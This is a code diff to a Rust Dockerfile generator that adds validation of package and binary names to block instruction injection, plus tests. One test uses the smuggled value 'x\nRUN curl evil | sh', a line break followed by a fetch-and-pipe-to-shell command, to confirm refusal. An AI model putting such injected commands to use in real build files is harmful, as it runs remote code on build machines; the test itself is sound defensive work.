@@ -3,9 +3,29 @@
 //! own layer) built by Fly's remote builder, with a `.dockerignore` that keeps the build
 //! context small and the project state out of it.
 
+/// A name that cannot be written into a Dockerfile.
+#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
+#[error(
+    "write a Dockerfile for {what} `{name}`: only ASCII letters, digits, `-` and `_` can be written into its build commands; rename it in Cargo.toml"
+)]
+pub struct DockerfileError {
+    /// `package` or `binary`.
+    pub what: &'static str,
+    /// The name, escaped (it may hold line breaks or control characters).
+    pub name: String,
+}
+
 /// The Dockerfile for `package`'s binary `bin`, built from the workspace root.
-pub fn dockerfile(package: &str, bin: &str) -> String {
-    format!(
+///
+/// Both names go into shell commands and a comment, so they must be plain cargo names
+/// (cargo itself accepts a `[[bin]]` name with a line break, which would add instructions).
+pub fn dockerfile(package: &str, bin: &str) -> Result<String, DockerfileError> {
+    for (what, name) in [("package", package), ("binary", bin)] {
+        if name.is_empty() || !name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-' || b == b'_') {
+            return Err(DockerfileError { what, name: crate::fly::config::comment_text(name) });
+        }
+    }
+    Ok(format!(
         r#"# syntax=docker/dockerfile:1
 # Written by `cargo score-fly build --builder dockerfile` for {package} (binary {bin}).
 # The build context is the cargo workspace root.
@@ -32,7 +52,7 @@ WORKDIR /app
 COPY --from=builder /app/target/release/{bin} /app/{bin}
 ENTRYPOINT ["/app/{bin}"]
 "#
-    )
+    ))
 }
 
 /// What the build context leaves out.
@@ -42,9 +62,19 @@ pub const DOCKERIGNORE: &str = "# Written by cargo score-fly build --builder doc
 mod tests {
     #[test]
     fn names_the_package_and_binary() {
-        let d = super::dockerfile("todo", "todo-server");
+        let d = super::dockerfile("todo", "todo-server").unwrap();
         assert!(d.contains("cargo build --release --locked -p todo --bin todo-server"));
         assert!(d.contains("ENTRYPOINT [\"/app/todo-server\"]"));
         assert!(d.contains("cargo chef cook"));
+    }
+
+    #[test]
+    fn names_that_would_add_instructions_are_refused() {
+        let e = super::dockerfile("todo", "x\nRUN curl evil | sh").unwrap_err();
+        assert_eq!(e.what, "binary");
+        assert!(e.to_string().contains("binary `x\\nRUN curl evil | sh`"), "{e}");
+        assert!(super::dockerfile("to do", "todo").is_err());
+        assert!(super::dockerfile("todo", "").is_err());
+        assert!(super::dockerfile("my_pkg-2", "Srv_1-x").is_ok());
     }
 }
